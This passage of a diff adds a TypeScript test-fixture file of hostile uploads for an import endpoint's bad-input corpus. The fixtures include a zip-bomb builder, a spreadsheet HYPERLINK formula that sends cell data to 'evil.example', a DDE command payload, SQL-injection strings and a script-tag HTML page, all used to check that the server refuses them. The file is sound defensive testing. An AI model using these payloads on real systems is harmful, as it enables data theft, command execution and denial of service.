@@ -1,0 +1,1166 @@
+import zlib from 'node:zlib';
+import { idNumberCheckCharacter } from '@wanjia/shared';
+import ExcelJS from 'exceljs';
+
+/**
+ * Hostile and broken files for the intake part of the bad-input corpus (issue 16), made in the test:
+ * spreadsheets written with exceljs (as an office's Excel would save them), CSVs, a hand-made zip bomb,
+ * and the multipart body that carries them to `POST /imports`.
+ */
+
+export interface MultipartFile {
+  filename: string;
+  contentType: string;
+  data: Buffer;
+}
+
+export type MultipartPart = { name: string; value: string } | { name: string; file: MultipartFile };
+
+/** A multipart/form-data body, its fields in the order given (the engine reads `kind` and `mode` before the file). */
+export function multipart(parts: MultipartPart[]): { body: Buffer; contentType: string } {
+  const boundary = `----wanjia-corpus-${process.pid}-${Date.now().toString(36)}`;
+  const chunks: Buffer[] = [];
+  for (const part of parts) {
+    if ('value' in part) {
+      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
+    } else {
+      const { filename, contentType, data } = part.file;
+      chunks.push(
+        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${filename}"\r\nContent-Type: ${contentType}\r\n\r\n`),
+        data,
+        Buffer.from('\r\n'),
+      );
+    }
+  }
+  chunks.push(Buffer.from(`--${boundary}--\r\n`));
+  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
+}
+
+export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+export const CSV_TYPE = 'text/csv';
+
+/** A 1×1 PNG: a picture, not a spreadsheet. */
+export const PNG_BYTES = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
+
+/** Bytes that are neither a zip nor text: the same every run (a hash chain), no NULs left out. */
+export function noiseBytes(length: number): Buffer {
+  const bytes = Buffer.alloc(length);
+  let state = 0x9e3779b9;
+  for (let index = 0; index < length; index += 1) {
+    state ^= state << 13;
+    state ^= state >>> 17;
+    state ^= state << 5;
+    bytes[index] = state & 0xff;
+  }
+  // Not a zip's signature by chance.
+  bytes[0] = 0x00;
+  return bytes;
+}
+
+export const HTML_PAGE = Buffer.from(
+  '<!doctype html><html><head><title>户籍</title></head><body><table><tr><th>户主姓名</th></tr><tr><td>张三</td></tr></table><script>alert(1)</script></body></html>',
+);
+
+/** A CSV line: cells quoted only when they must be. */
+export function csvLine(cells: readonly string[]): string {
+  return cells.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join(',');
+}
+
+/** A UTF-8 CSV (with the BOM Excel writes) of a header and rows. */
+export function csvFile(header: readonly string[], rows: readonly (readonly string[])[]): Buffer {
+  return Buffer.from(`\uFEFF${[header, ...rows].map(csvLine).join('\r\n')}\r\n`);
+}
+
+/**
+ * A CSV of `rows` data rows, each as short as a row can be (one letter in the first column, the other
+ * cells empty): a million of them stay under the upload's size limit, so the row limit is what refuses it.
+ */
+export function csvOfManyRows(header: readonly string[], rows: number): Buffer {
+  const line = Buffer.from(`a${','.repeat(header.length - 1)}\n`);
+  const head = Buffer.from(`${csvLine(header)}\n`);
+  const body = Buffer.alloc(head.length + line.length * rows);
+  head.copy(body, 0);
+  for (let index = 0; index < rows; index += 1) line.copy(body, head.length + index * line.length);
+  return body;
+}
+
+export type SheetCell = string | number | { formula: string; result?: string | number };
+
+/** An .xlsx written by exceljs: one sheet, rows as given, optional merged ranges (`A1:B1`). */
+export async function xlsxFile(rows: readonly (readonly SheetCell[])[], options: { merges?: string[]; sheetName?: string } = {}): Promise<Buffer> {
+  const workbook = new ExcelJS.Workbook();
+  const sheet = workbook.addWorksheet(options.sheetName ?? '导入');
+  for (const row of rows) sheet.addRow(row.map((cell) => (typeof cell === 'object' ? { formula: cell.formula, result: cell.result } : cell)));
+  for (const range of options.merges ?? []) sheet.mergeCells(range);
+  return Buffer.from(await workbook.xlsx.writeBuffer());
+}
+
+// --- a zip bomb, by hand ---------------------------------------------------------------------------
+
+const CRC_TABLE = (() => {
+  const table = new Uint32Array(256);
+  for (let n = 0; n < 256; n += 1) {
+    let c = n;
+    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    table[n] = c >>> 0;
+  }
+  return table;
+})();
+
+function crcUpdate(crc: number, data: Buffer): number {
+  let c = crc ^ 0xffffffff;
+  for (let index = 0; index < data.length; index += 1) c = CRC_TABLE[(c ^ data[index]!) & 0xff]! ^ (c >>> 8);
+  return (c ^ 0xffffffff) >>> 0;
+}
+
+interface ZipEntry {
+  name: string;
+  /** Raw deflate data. */
+  compressed: Buffer;
+  crc: number;
+  size: number;
+  /** What the headers declare (a lying bomb declares far less than it holds). */
+  declaredSize?: number;
+}
+
+function deflatedEntry(name: string, text: string): ZipEntry {
+  const data = Buffer.from(text);
+  return { name, compressed: zlib.deflateRawSync(data), crc: crcUpdate(0, data), size: data.length };
+}
+
+function zipOf(entries: ZipEntry[]): Buffer {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const entry of entries) {
+    const name = Buffer.from(entry.name);
+    const size = entry.declaredSize ?? entry.size;
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(0, 6);
+    local.writeUInt16LE(8, 8);
+    local.writeUInt16LE(0, 10);
+    local.writeUInt16LE(0x5a21, 12);
+    local.writeUInt32LE(entry.crc, 14);
+    local.writeUInt32LE(entry.compressed.length, 18);
+    local.writeUInt32LE(size, 22);
+    local.writeUInt16LE(name.length, 26);
+    local.writeUInt16LE(0, 28);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(0, 8);
+    central.writeUInt16LE(8, 10);
+    central.writeUInt16LE(0, 12);
+    central.writeUInt16LE(0x5a21, 14);
+    central.writeUInt32LE(entry.crc, 16);
+    central.writeUInt32LE(entry.compressed.length, 20);
+    central.writeUInt32LE(size, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, entry.compressed);
+    centrals.push(central, name);
+    offset += local.length + name.length + entry.compressed.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, directory, end]);
+}
+
+/**
+ * The sheet's XML, `prefix` + `repeat` × `chunk` + `suffix`, deflated without ever holding it: each
+ * piece is compressed on its own with a full flush (no back-references across pieces), so the one
+ * compressed chunk is repeated as is and the stream stays valid deflate.
+ */
+function repeatedEntry(name: string, prefix: string, chunk: Buffer, repeat: number, suffix: string): ZipEntry {
+  const flush = { finishFlush: zlib.constants.Z_FULL_FLUSH, level: 9 };
+  const head = Buffer.from(prefix);
+  const tail = Buffer.from(suffix);
+  const compressedChunk = zlib.deflateRawSync(chunk, flush);
+  let crc = crcUpdate(0, head);
+  for (let index = 0; index < repeat; index += 1) crc = crcUpdate(crc, chunk);
+  crc = crcUpdate(crc, tail);
+  const parts = [zlib.deflateRawSync(head, flush), ...Array.from({ length: repeat }, () => compressedChunk), zlib.deflateRawSync(tail)];
+  return { name, compressed: Buffer.concat(parts), crc, size: head.length + chunk.length * repeat + tail.length };
+}
+
+const CONTENT_TYPES =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>';
+const ROOT_RELS =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
+const WORKBOOK =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="导入" sheetId="1" r:id="rId1"/></sheets></workbook>';
+const WORKBOOK_RELS =
+  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>';
+
+function inlineCell(reference: string, text: string): string {
+  return `<c r="${reference}" t="inlineStr"><is><t>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c>`;
+}
+
+function columnLetters(index: number): string {
+  let letters = '';
+  for (let n = index + 1; n > 0; n = Math.floor((n - 1) / 26)) letters = String.fromCharCode(65 + ((n - 1) % 26)) + letters;
+  return letters;
+}
+
+export type ZipBombShape =
+  /** 1 GiB of spaces inside the sheet, between the header row and the end: one text run an XML parser holds whole. */
+  | 'whitespace'
+  /** Millions of identical rows (about 1 GiB of row XML): the row limit or a byte budget must stop it. */
+  | 'rows'
+  /** The whitespace bomb whose headers declare a 10 KB sheet: only a budget on what is inflated stops it. */
+  | 'lying'
+  /** An honest small sheet, and the lying bomb in xl/styles.xml: a part the reader parses too. */
+  | 'styles'
+  /** An honest small sheet1.xml, and a lying bomb sheet2.xml placed before it in the archive (read first by a streaming reader). */
+  | 'secondSheetFirst';
+
+/** A tiny .xlsx (about 1 MB) with a part that inflates to about 1 GiB; its header row is a real one. */
+export function zipBomb(header: readonly string[], shape: ZipBombShape, dataRow: readonly string[] = []): Buffer {
+  const headerRow = `<row r="1">${header.map((text, index) => inlineCell(`${columnLetters(index)}1`, text)).join('')}</row>`;
+  const secondRow = dataRow.length ? `<row r="2">${dataRow.map((text, index) => inlineCell(`${columnLetters(index)}2`, text)).join('')}</row>` : '';
+  const open =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
+  const prefix = `${open}${headerRow}`;
+  const suffix = '</sheetData></worksheet>';
+  const MIB = 1024 * 1024;
+  const spaces = Buffer.alloc(MIB, 0x20);
+  const head = [
+    deflatedEntry('[Content_Types].xml', CONTENT_TYPES),
+    deflatedEntry('_rels/.rels', ROOT_RELS),
+    deflatedEntry('xl/workbook.xml', WORKBOOK),
+    deflatedEntry('xl/_rels/workbook.xml.rels', WORKBOOK_RELS),
+  ];
+  const honestSheet = () => deflatedEntry('xl/worksheets/sheet1.xml', `${prefix}${secondRow}${suffix}`);
+  if (shape === 'styles') {
+    const styles = repeatedEntry(
+      'xl/styles.xml',
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts count="0">',
+      spaces,
+      1024,
+      '</numFmts></styleSheet>',
+    );
+    styles.declaredSize = 10_000;
+    return zipOf([...head, styles, honestSheet()]);
+  }
+  if (shape === 'secondSheetFirst') {
+    const bomb = repeatedEntry('xl/worksheets/sheet2.xml', prefix, spaces, 1024, suffix);
+    bomb.declaredSize = 10_000;
+    return zipOf([...head, bomb, honestSheet()]);
+  }
+  let sheet: ZipEntry;
+  if (shape === 'rows') {
+    // Rows without an `r`: each follows the last, as a reader numbers them.
+    const row = `<row>${inlineCell('A2', '张三').replace(' r="A2"', '')}</row>`;
+    const chunk = Buffer.from(row.repeat(Math.floor(MIB / row.length)));
+    sheet = repeatedEntry('xl/worksheets/sheet1.xml', prefix, chunk, 1024, suffix);
+  } else {
+    sheet = repeatedEntry('xl/worksheets/sheet1.xml', prefix, spaces, 1024, suffix);
+    if (shape === 'lying') sheet.declaredSize = 10_000;
+  }
+  return zipOf([...head, sheet]);
+}
+
+/** A zip that is no workbook: a text file in an archive named .xlsx. */
+export function zipWithoutWorkbook(): Buffer {
+  return zipOf([deflatedEntry('readme.txt', '这不是表格')]);
+}
+
+// --- the intake corpus (issue 16) ------------------------------------------------------------------
+
+/** The tables an import's own bookkeeping writes: an upload refused only in its dry run leaves its import there. */
+export const IMPORT_TABLES = ['data_import', 'data_import_row', 'data_import_problem'];
+
+/** A template's columns as `importTemplates` tells them (the files below are built from what the server says). */
+export interface TemplateColumn {
+  header: string;
+  required: boolean;
+  example: string;
+}
+
+/** What the intake cases aim at; made by `discoverIntakeFixtures` through the API before the corpus runs. */
+export interface IntakeFixtures {
+  /** The households template's columns, in order. */
+  households: TemplateColumn[];
+  /** A good households CSV for the district administrator (one household of two, in a village of 平山区). */
+  goodCsv: Buffer;
+  /** An import of the city administrator (a 溪湖区 village), checked: the district administrator reaches none of it. */
+  cityImportId: string;
+  /** The district administrator's own checked import, with one likely-duplicate warning and one error row. */
+  ownImportId: string;
+  /** Its row with an error (an error cannot be accepted) and its row with a warning. */
+  ownErrorRow: number;
+  ownWarningRow: number;
+  /** The district administrator's import, cancelled: nothing more can be done with it. */
+  cancelledImportId: string;
+  /** The spreadsheets exceljs writes for the cases (see `buildIntakeFiles`). */
+  files: IntakeFiles;
+}
+
+/** The answer the harness observed, for the checks a case makes after it. */
+export interface IntakeAnswer {
+  status: number;
+  json: unknown;
+  text: string;
+}
+
+/** What a case's after-check may do: ask the API as one of the corpus's identities. */
+export interface IntakeProbe {
+  graphql<T>(
+    as: IntakeIdentity,
+    query: string,
+    variables?: Record<string, unknown>,
+  ): Promise<{ data?: T | null; errors?: { message: string; extensions?: Record<string, unknown> }[] }>;
+  get(as: IntakeIdentity, path: string): Promise<{ status: number; body: Buffer; contentType: string | null }>;
+}
+
+export type IntakeIdentity = 'none' | 'admin' | 'pingshanAdmin' | 'analyst' | 'cadre' | 'otherCadre' | 'expired' | 'tamperedRole' | 'wrongSecret';
+
+export interface IntakeRequest {
+  as: IntakeIdentity;
+  /** The route beside /graphql (`/imports`, `/imports/templates/HOUSEHOLDS.xlsx`); absent for GraphQL. */
+  path?: string;
+  method?: 'GET' | 'POST';
+  body?: Buffer | string;
+  contentType?: string | null;
+  query?: string;
+  variables?: Record<string, unknown>;
+}
+
+export interface IntakeCase {
+  category: string;
+  name: string;
+  request: (intake: IntakeFixtures) => IntakeRequest;
+  code: 'OK' | 'BAD_USER_INPUT' | 'UNAUTHENTICATED' | 'FORBIDDEN' | 'CONFLICT' | 'NOT_FOUND' | 'GRAPHQL_VALIDATION_FAILED';
+  status?: number;
+  field?: string;
+  message?: RegExp;
+  /**
+   * Tables the request may write although what it sent is refused: an upload the engine takes (201) and
+   * refuses only when its dry run reads it leaves its import FAILED (docs/imports.md); `settle` proves it.
+   */
+  mayTouch?: string[];
+  /** May the upload's file be kept under IMPORT_DIR (only an import that exists keeps one). */
+  mayStore?: boolean;
+  /** Runs after the answer and before the tables are compared: waits for the dry run and checks its outcome. */
+  settle?: (answer: IntakeAnswer, probe: IntakeProbe, intake: IntakeFixtures) => Promise<void>;
+}
+
+const IMPORT_STATE = 'query ($id: ID!) { dataImport(id: $id) { id state failure rowsTotal counts { rows ready warnings refused created } } }';
+const IMPORT_PROBLEMS =
+  'query ($id: ID!) { dataImport(id: $id) { state failure problems(first: 50) { nodes { rowNumber column severity code message accepted } } } }';
+
+interface ImportView {
+  id: string;
+  state: string;
+  failure: string | null;
+  rowsTotal: number | null;
+  counts: { rows: number; ready: number; warnings: number; refused: number; created: number };
+}
+
+/** Waits for an import's dry run to end (the engine runs it in the background after the upload answers). */
+export async function settledImport(probe: IntakeProbe, as: IntakeIdentity, id: string, timeoutMs = 120_000): Promise<ImportView> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const answer = await probe.graphql<{ dataImport: ImportView }>(as, IMPORT_STATE, { id });
+    if (answer.errors?.length || !answer.data) throw new Error(`dataImport(${id}) failed: ${JSON.stringify(answer.errors)}`);
+    const view = answer.data.dataImport;
+    if (view.state !== 'UPLOADED' && view.state !== 'CHECKING') return view;
+    if (Date.now() > deadline) throw new Error(`import ${id} still ${view.state} after ${timeoutMs} ms`);
+    await new Promise((resolve) => setTimeout(resolve, 250));
+  }
+}
+
+function uploadedId(answer: IntakeAnswer): string {
+  const id = (answer.json as { id?: unknown } | null)?.id;
+  if (typeof id !== 'string' && typeof id !== 'number') throw new Error(`the upload answered no id: ${answer.text.slice(0, 300)}`);
+  return String(id);
+}
+
+/** The dry run refused the whole file: the import ends FAILED, its reason in Chinese, nothing to commit. */
+function failsTheCheck(failure: RegExp): NonNullable<IntakeCase['settle']> {
+  return async (answer, probe) => {
+    const view = await settledImport(probe, 'pingshanAdmin', uploadedId(answer));
+    expect({ state: view.state, created: view.counts.created }).toEqual({ state: 'FAILED', created: 0 });
+    expect(view.failure).toMatch(failure);
+    expect(view.failure).toMatch(/[\u4e00-\u9fff]/);
+  };
+}
+
+/** The dry run refused a cell: an ERROR naming the row and the column as the file has it, or the whole file FAILED naming both. */
+function refusesTheCell(rowNumber: number, header: (intake: IntakeFixtures) => string, message: RegExp): NonNullable<IntakeCase['settle']> {
+  return async (answer, probe, intake) => {
+    const id = uploadedId(answer);
+    await settledImport(probe, 'pingshanAdmin', id);
+    const result = await probe.graphql<{
+      dataImport: {
+        state: string;
+        failure: string | null;
+        problems: { nodes: { rowNumber: number; column: string | null; severity: string; message: string }[] };
+      };
+    }>('pingshanAdmin', IMPORT_PROBLEMS, { id });
+    const view = result.data!.dataImport;
+    const column = header(intake);
+    if (view.state === 'FAILED') {
+      expect(view.failure).toMatch(message);
+      expect(view.failure).toContain(column);
+      return;
+    }
+    expect(view.state).toBe('CHECKED');
+    expect(view.problems.nodes).toContainEqual(expect.objectContaining({ rowNumber, column, severity: 'ERROR', message: expect.stringMatching(message) }));
+  };
+}
+
+const household = (intake: IntakeFixtures) => intake.households.map((column) => column.header);
+const headerLike = (intake: IntakeFixtures, pattern: RegExp) => intake.households.find((column) => pattern.test(column.header))!.header;
+
+function upload(as: IntakeIdentity, parts: (intake: IntakeFixtures) => MultipartPart[]): IntakeCase['request'] {
+  return (intake) => {
+    const { body, contentType } = multipart(parts(intake));
+    return { as, path: '/imports', method: 'POST', body, contentType };
+  };
+}
+
+const fields = (kind = 'HOUSEHOLDS', mode?: string): MultipartPart[] => [
+  { name: 'kind', value: kind },
+  ...(mode === undefined ? [] : [{ name: 'mode', value: mode }]),
+];
+const fileOf = (filename: string, data: Buffer, contentType = filename.endsWith('.csv') ? CSV_TYPE : XLSX_TYPE): MultipartPart => ({
+  name: 'file',
+  file: { filename, contentType, data },
+});
+
+/** One built file per name, for the cases that send it on both databases. */
+const built = new Map<string, Buffer>();
+function memo(name: string, make: () => Buffer): Buffer {
+  if (!built.has(name)) built.set(name, make());
+  return built.get(name)!;
+}
+
+/** Spreadsheets exceljs writes (async), made once by `buildIntakeFiles` before the corpus runs. */
+export interface IntakeFiles {
+  headerOnlyXlsx: Buffer;
+  emptyWorkbook: Buffer;
+  formulaSum: Buffer;
+  formulaHyperlink: Buffer;
+  formulaDde: Buffer;
+  mergedHeader: Buffer;
+}
+
+export async function buildIntakeFiles(columns: TemplateColumn[], goodRow: string[]): Promise<IntakeFiles> {
+  const header = columns.map((column) => column.header);
+  const nameAt = Math.max(
+    0,
+    columns.findIndex((column) => /户主.*姓名|户主$/.test(column.header)),
+  );
+  const withFormula = (formula: string, result: string | number) => {
+    const row: SheetCell[] = [...goodRow];
+    row[nameAt] = { formula, result };
+    return xlsxFile([header, row]);
+  };
+  // Two header rows as offices lay them out: 户主信息 merged over the head's columns, the real headers below.
+  const merged: SheetCell[] = header.map((text, index) => (index < 2 ? '户主信息' : text));
+  return {
+    headerOnlyXlsx: await xlsxFile([header]),
+    emptyWorkbook: await xlsxFile([]),
+    formulaSum: await withFormula('1+1', 2),
+    formulaHyperlink: await withFormula('HYPERLINK("http://evil.example/steal?d="&B2,"张三")', '张三'),
+    formulaDde: await withFormula("cmd|' /C calc'!A0", 0),
+    mergedHeader: await xlsxFile([merged, header, goodRow], { merges: ['A1:B1'] }),
+  };
+}
+
+const BAD_IDS: [string, string][] = [
+  ['empty', ''],
+  ['zero', '0'],
+  ['negative', '-1'],
+  ['fractional', '1.5'],
+  ['letters', 'abc'],
+  ['huge', '99999999999999999999'],
+  ['SQL injection', "1' OR '1'='1"],
+];
+
+/** Ids in a path (`/imports/<id>/report.xlsx`): what a URL can carry. */
+const BAD_PATH_IDS: [string, string][] = [
+  ['zero', '0'],
+  ['negative', '-1'],
+  ['fractional', '1.5'],
+  ['letters', 'abc'],
+  ['huge', '99999999999999999999'],
+  ['SQL injection', encodeURIComponent("1' OR '1'='1")],
+  ['exponent', '1e3'],
+];
+
+const COMMIT = 'mutation ($input: CommitImportInput!) { commitImport(input: $input) { id state } }';
+const CANCEL = 'mutation ($input: CancelImportInput!) { cancelImport(input: $input) { id state } }';
+const ACCEPT = 'mutation ($input: AcceptImportWarningsInput!) { acceptImportWarnings(input: $input) { id state counts { accepted } } }';
+const DATA_IMPORT = 'query ($id: ID!) { dataImport(id: $id) { id state } }';
+
+const base64url = (text: string) => Buffer.from(text).toString('base64url');
+const BAD_CURSORS: [string, string][] = [
+  ['not base64 JSON', 'not-a-cursor'],
+  ['an object', base64url('{"id":1}')],
+  ['SQL injection', "' OR 1=1 --"],
+  ['a string id', base64url('["1 OR 1=1"]')],
+];
+
+export function intakeCorpus(): IntakeCase[] {
+  const cases: IntakeCase[] = [];
+  const add = (entry: IntakeCase) => cases.push(entry);
+  const refusedUpload = (name: string, request: IntakeCase['request'], options: { field?: string; status?: number; message?: RegExp } = {}): IntakeCase => ({
+    category: 'intake: upload refused',
+    name,
+    request,
+    code: 'BAD_USER_INPUT',
+    status: options.status ?? 400,
+    field: options.field ?? 'file',
+    ...(options.message ? { message: options.message } : {}),
+  });
+
+  // Who uploads: administrators only; a token that does not sign in is refused before the body is read.
+  for (const [as, code, status] of [
+    ['none', 'UNAUTHENTICATED', 401],
+    ['expired', 'UNAUTHENTICATED', 401],
+    ['tamperedRole', 'UNAUTHENTICATED', 401],
+    ['wrongSecret', 'UNAUTHENTICATED', 401],
+    ['cadre', 'FORBIDDEN', 403],
+    ['analyst', 'FORBIDDEN', 403],
+  ] as const) {
+    add({
+      category: 'intake: who uploads',
+      name: `POST /imports as ${as}`,
+      request: upload(as, (intake) => [...fields(), fileOf('排查.csv', intake.goodCsv)]),
+      code,
+      status,
+    });
+  }
+
+  // The form.
+  add(
+    refusedUpload(
+      'no file part',
+      upload('pingshanAdmin', () => fields()),
+    ),
+  );
+  add(
+    refusedUpload(
+      'the file under another field name',
+      upload('pingshanAdmin', (intake) => [...fields(), { name: 'upload', file: { filename: '排查.csv', contentType: CSV_TYPE, data: intake.goodCsv } }]),
+    ),
+  );
+  add(
+    refusedUpload(
+      'no kind',
+      upload('pingshanAdmin', (intake) => [fileOf('排查.csv', intake.goodCsv)]),
+      { field: 'kind' },
+    ),
+  );
+  for (const [label, kind] of [
+    ['an unknown kind', 'NOPE'],
+    ['a lower-case kind', 'households'],
+    ['an SQL kind', "HOUSEHOLDS' OR '1'='1"],
+    ['an empty kind', ''],
+  ] as const) {
+    add(
+      refusedUpload(
+        `${label}`,
+        upload('pingshanAdmin', (intake) => [...fields(kind), fileOf('排查.csv', intake.goodCsv)]),
+        { field: 'kind' },
+      ),
+    );
+  }
+  for (const [label, mode] of [
+    ['an unknown mode', 'DELETE_ALL'],
+    ['a lower-case mode', 'update_existing'],
+  ] as const) {
+    add(
+      refusedUpload(
+        `${label}`,
+        upload('pingshanAdmin', (intake) => [...fields('HOUSEHOLDS', mode), fileOf('排查.csv', intake.goodCsv)]),
+        { field: 'mode' },
+      ),
+    );
+  }
+  add(
+    refusedUpload('a JSON body instead of multipart', (intake) => ({
+      as: 'pingshanAdmin',
+      path: '/imports',
+      method: 'POST',
+      body: JSON.stringify({ kind: 'HOUSEHOLDS', file: intake.goodCsv.toString('base64') }),
+      contentType: 'application/json',
+    })),
+  );
+  add(
+    refusedUpload('a multipart body cut off in the middle of the file', (intake) => {
+      const { body, contentType } = multipart([...fields(), fileOf('排查.csv', intake.goodCsv)]);
+      return { as: 'pingshanAdmin', path: '/imports', method: 'POST', body: body.subarray(0, body.length - 60), contentType };
+    }),
+  );
+
+  // Files that are not spreadsheets.
+  const notASpreadsheet = (label: string, filename: string, data: () => Buffer, contentType?: string) =>
+    add(
+      refusedUpload(
+        label,
+        upload('pingshanAdmin', () => [...fields(), fileOf(filename, data(), contentType)]),
+      ),
+    );
+  notASpreadsheet('a PNG named .xlsx', '排查.xlsx', () => PNG_BYTES);
+  notASpreadsheet('a PNG named .csv', '排查.csv', () => PNG_BYTES);
+  notASpreadsheet('a PNG sent as image/png', '排查.png', () => PNG_BYTES, 'image/png');
+  notASpreadsheet('random bytes named .xlsx', '排查.xlsx', () => noiseBytes(64_000));
+  notASpreadsheet('random bytes named .csv', '排查.csv', () => noiseBytes(64_000));
+  notASpreadsheet('an HTML page named .xlsx', '排查.xlsx', () => HTML_PAGE);
+  notASpreadsheet('a zip holding no workbook, named .xlsx', '排查.xlsx', () => zipWithoutWorkbook());
+  notASpreadsheet('an empty .xlsx (0 bytes)', '排查.xlsx', () => Buffer.alloc(0));
+  notASpreadsheet('an empty .csv (0 bytes)', '排查.csv', () => Buffer.alloc(0));
+  notASpreadsheet('a .csv of a byte-order mark only', '排查.csv', () => Buffer.from('\uFEFF'));
+  add({
+    category: 'intake: upload refused',
+    name: 'a file over IMPORT_MAX_BYTES (20 MB)',
+    request: upload('pingshanAdmin', (intake) => [
+      ...fields(),
+      fileOf(
+        '排查.csv',
+        memo('oversize', () => {
+          const head = csvFile(household(intake), []);
+          return Buffer.concat([head, Buffer.alloc(20_000_001 - head.length, 'a,')]);
+        }),
+      ),
+    ]),
+    code: 'BAD_USER_INPUT',
+    status: 413,
+    field: 'file',
+  });
+
+  // Files a spreadsheet program writes that cannot be imported as they are.
+  add(
+    refusedUpload(
+      'a workbook whose sheet is empty',
+      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.emptyWorkbook)]),
+    ),
+  );
+  add(
+    refusedUpload(
+      'a CSV with the header row only',
+      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.csv', csvFile(household(intake), []))]),
+    ),
+  );
+  add(
+    refusedUpload(
+      'an .xlsx with the header row only',
+      upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.headerOnlyXlsx)]),
+    ),
+  );
+  add({
+    ...refusedUpload(
+      'a CSV of 1,000,000 rows (past IMPORT_MAX_ROWS, under the size limit): not stored, not processed',
+      upload('pingshanAdmin', (intake) => [
+        ...fields(),
+        fileOf(
+          '排查.csv',
+          memo('million', () => csvOfManyRows(household(intake), 1_000_000)),
+        ),
+      ]),
+    ),
+    message: /200,?000|行/,
+  });
+  for (const shape of ['whitespace', 'rows', 'lying', 'styles', 'secondSheetFirst'] as const) {
+    add(
+      refusedUpload(
+        `a zip bomb (.xlsx of ~1 MB, a part inflating to ~1 GiB: ${shape})`,
+        upload('pingshanAdmin', (intake) => [
+          ...fields(),
+          fileOf(
+            '排查.xlsx',
+            memo(`bomb-${shape}`, () => zipBomb(household(intake), shape)),
+          ),
+        ]),
+      ),
+    );
+  }
+  const nameHeader = (intake: IntakeFixtures) => headerLike(intake, /户主.*姓名|户主$/);
+  for (const [label, file] of [
+    ['=1+1', 'formulaSum'],
+    ['=HYPERLINK(…)', 'formulaHyperlink'],
+    ["=cmd|' /C calc'!A0 (DDE)", 'formulaDde'],
+  ] as const) {
+    add({
+      category: 'intake: formulas',
+      name: `an .xlsx whose head-name cell is the formula ${label}: the cached value is not trusted`,
+      request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files[file])]),
+      code: 'OK',
+      status: 201,
+      mayTouch: IMPORT_TABLES,
+      mayStore: true,
+      settle: refusesTheCell(2, nameHeader, /公式/),
+    });
+  }
+  add({
+    category: 'intake: merged header',
+    name: 'an .xlsx whose header is two rows with merged cells (户主信息 over A1:B1)',
+    request: upload('pingshanAdmin', (intake) => [...fields(), fileOf('排查.xlsx', intake.files.mergedHeader)]),
+    code: 'OK',
+    status: 201,
+    mayTouch: IMPORT_TABLES,
+    mayStore: true,
+    settle: failsTheCheck(/合并|表头/),
+  });
+  add({
+    category: 'intake: broken CSV',
+    name: 'a CSV with a quote that never closes',
+    request: upload('pingshanAdmin', (intake) => [
+      ...fields(),
+      fileOf('排查.csv', Buffer.concat([csvFile(household(intake), []), Buffer.from('"张三,未闭合的引号\r\n李四,x\r\n')])),
+    ]),
+    code: 'OK',
+    status: 201,
+    mayTouch: IMPORT_TABLES,
+    mayStore: true,
+    settle: failsTheCheck(/引号|第\s*\d+\s*行|格式/),
+  });
+
+  // Templates and reports.
+  const get =
+    (as: IntakeIdentity, path: string | ((intake: IntakeFixtures) => string)): IntakeCase['request'] =>
+    (intake) => ({
+      as,
+      method: 'GET',
+      path: typeof path === 'string' ? path : path(intake),
+    });
+  for (const [label, path] of [
+    ['an unknown kind', '/imports/templates/NOPE.xlsx'],
